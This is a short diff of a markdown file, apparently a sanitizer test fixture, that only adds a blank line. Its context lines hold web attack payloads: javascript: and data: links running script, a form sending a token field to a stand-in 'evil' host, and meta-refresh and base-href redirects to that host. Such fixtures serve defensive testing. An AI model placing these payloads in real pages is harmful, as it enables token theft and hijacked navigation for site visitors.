@@ -15,6 +15,7 @@ license: mit
 <a href="javascript:alert(1)">a</a> [b](javascript:alert(1)) [c](data:text/html,<script>alert(1)</script>)
 <form action="https://evil"><input name=token></form><style>body{display:none}</style>
 <meta http-equiv="refresh" content="0; url=https://evil"><base href="https://evil">
+
 ![plot](plots/confusion.png) [data](./data/a.csv) <img src="raw.png">
 
 | a | b |
